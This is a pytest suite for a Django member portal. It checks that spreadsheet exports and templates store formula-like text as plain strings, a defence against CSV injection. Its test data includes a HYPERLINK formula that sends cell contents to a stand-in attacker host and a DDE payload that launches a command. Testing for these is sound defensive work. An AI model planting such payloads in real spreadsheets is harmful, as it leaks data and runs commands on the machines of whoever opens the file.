"""Text that looks like a formula stays text in every workbook the portal writes (OWASP "CSV injection").

A work unit such as =HYPERLINK("http://…","x"), typed in a form or imported, must never come back out of the
roster export or the template as a live formula: each file is read back with openpyxl and every such cell is a
string cell holding the text unchanged.
"""

import io
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from members import spreadsheets
from members.models import Member
from tests.factories import MemberFactory, make_id_number, make_org
from tests.members.test_excel import _confirm, _content, _row, _upload

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


def _as_read(text: str) -> str:
    # XML turns a carriage return into a line feed when the file is parsed; the cell is text either way.
    return text.replace("\r", "\n")


def _sheet(content: bytes, name: str = spreadsheets.DATA_SHEET):
    return load_workbook(io.BytesIO(content))[name]


def _column(header: str) -> int:
    return spreadsheets.HEADERS.index(header) + 1


@pytest.mark.parametrize("full", [False, True], ids=["masked", "full-ids"])
def test_roster_export_writes_formula_like_text_as_text(client, world, full):
    """Work unit, position, name and phone that begin with = + - @ (or a tab or carriage return) come back from the
    export, with or without full ID numbers, as string cells with the same text."""
    members = [
        MemberFactory(
            organisation=world.branch_a,
            name=f"甲{i}" if i % 2 else text[:40],
            work_unit=text,
            position=text[:60],
            phone="+86 138 0013 8000" if i % 2 else "-",
        )
        for i, text in enumerate(HOSTILE)
    ]
    client.force_login(world.secretary_a)
    url, data = reverse("members:export"), {"organisation": world.branch_a.pk}
    response = client.post(url, {**data, "ids": "full"}) if full else client.get(url, data)
    sheet = _sheet(_content(response))
    by_work_unit = {}
    for row in sheet.iter_rows(min_row=2):
        by_work_unit[row[_column("工作单位") - 1].value] = row
    for member in members:
        row = by_work_unit[_as_read(member.work_unit)]
        for header in ("姓名", "工作单位", "职务", "手机号"):
            cell = row[_column(header) - 1]
            assert cell.data_type == "s", (header, cell.value)
            assert cell.value == _as_read(getattr(member, spreadsheets.HEADERS_FIELD[header]))
        # A formula-like text also carries Excel's quote prefix, so it stays text when someone edits the cell.
        assert row[_column("工作单位") - 1].quotePrefix == member.work_unit.startswith(spreadsheets.FORMULA_STARTS)


def test_imported_formula_text_is_stored_as_typed_and_exported_as_text(client, world):
    """A work unit imported as the text =HYPERLINK(...) is saved as that text and exported as a string cell."""
    text = HOSTILE[0]
    workbook = Workbook()
    sheet = workbook.active
    spreadsheets.row_append(sheet, spreadsheets.HEADERS)
    birth = date(1991, 4, 5)
    spreadsheets.row_append(sheet, _row("公式测试", birth=birth, id_number=make_id_number(birth), 工作单位=text))
    client.force_login(world.secretary_a)
    assert _upload(client, spreadsheets.workbook_bytes(workbook)).context["rows"][0].problems == []
    assert _confirm(client).status_code == 302
    assert Member.objects.get(name="公式测试").work_unit == text

    exported = _sheet(_content(client.get(reverse("members:export") + "?q=公式测试")))
    cell = exported.cell(row=2, column=_column("工作单位"))
    assert (cell.value, cell.data_type) == (text, "s")


def test_template_writes_organisation_names_and_codes_as_text(client, world):
    """The codes sheet of the import template lists a branch named or coded like a formula as plain text."""
    branch = make_org(world.p1, name="=1+1党支部", code="@A1")
    client.force_login(world.admin)
    codes = _sheet(client.get(reverse("members:import_template")).content, spreadsheets.CODES_SHEET)
    row = next(r for r in codes.iter_rows(min_row=2) if r[0].value == branch.code)
    assert [(c.value, c.data_type) for c in row[:2]] == [("@A1", "s"), ("=1+1党支部", "s")]


def test_control_characters_do_not_break_the_export(client, world):
    """A value holding a control character (possible through a form) is written without it, not as an error."""
    MemberFactory(organisation=world.branch_a, name="控制字符", work_unit="供电\x07公司\x1b")
    client.force_login(world.secretary_a)
    response = client.get(reverse("members:export") + "?q=控制字符")
    assert response.status_code == 200
    assert _sheet(_content(response)).cell(row=2, column=_column("工作单位")).value == "供电公司"


@pytest.mark.parametrize("text", HOSTILE)
def test_cell_write_keeps_any_text_as_a_string(text):
    """The one cell writer stores text as text in normal and write-only sheets alike."""
    for write_only in (False, True):
        workbook = Workbook(write_only=write_only)
        sheet = workbook.create_sheet("x") if write_only else workbook.active
        spreadsheets.row_append(sheet, [text, 42, date(2026, 1, 2)])
        cells = load_workbook(io.BytesIO(spreadsheets.workbook_bytes(workbook))).worksheets[0][1]
        assert (cells[0].value, cells[0].data_type) == (_as_read(text), "s")
        assert (cells[1].value, cells[1].data_type) == (42, "n")
